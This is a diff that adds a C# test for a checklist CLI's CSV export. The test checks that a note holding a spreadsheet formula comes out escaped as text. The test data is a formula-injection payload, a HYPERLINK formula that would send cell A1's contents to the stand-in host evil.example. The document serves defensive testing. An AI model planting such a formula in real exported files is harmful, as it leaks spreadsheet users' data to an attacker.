@@ -32,6 +32,26 @@ public class ChecklistVerbTests
     }
 
     [Test]
+    public async Task A_note_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text()
+    {
+        using var temp = await ImportedAsync();
+        const string formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        using (var connection = new Microsoft.Data.Sqlite.SqliteConnection(KnowledgeBase.Storage.CatalogDatabase.ConnectionString(new KnowledgeBase.Storage.DataDirectory(temp.Combine("kb")))))
+        {
+            connection.Open();
+            using var command = connection.CreateCommand();
+            command.CommandText = "UPDATE ChecklistItems SET Note = $note WHERE StackSlug = 'kubeflow-on-kubernetes' AND RequirementCode = 'CIC-01'";
+            command.Parameters.AddWithValue("$note", formula);
+            Assert.That(command.ExecuteNonQuery(), Is.EqualTo(1));
+        }
+        var (exit, output, error) = await RunAsync("checklist", "--stack", "kubeflow-on-kubernetes", "--format", "csv", "--data-dir", temp.Combine("kb"));
+        Assert.That((exit, error), Is.EqualTo((0, "")));
+        var line = output.Split('\n').Single(l => l.StartsWith("CIC-01,", StringComparison.Ordinal));
+        Assert.That(line, Does.Contain(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","));
+        Assert.That(line, Does.Not.Contain(",=").And.Not.Contain(",\"="));
+    }
+
+    [Test]
     public async Task The_checklist_is_written_as_markdown_to_a_file()
     {
         using var temp = await ImportedAsync();
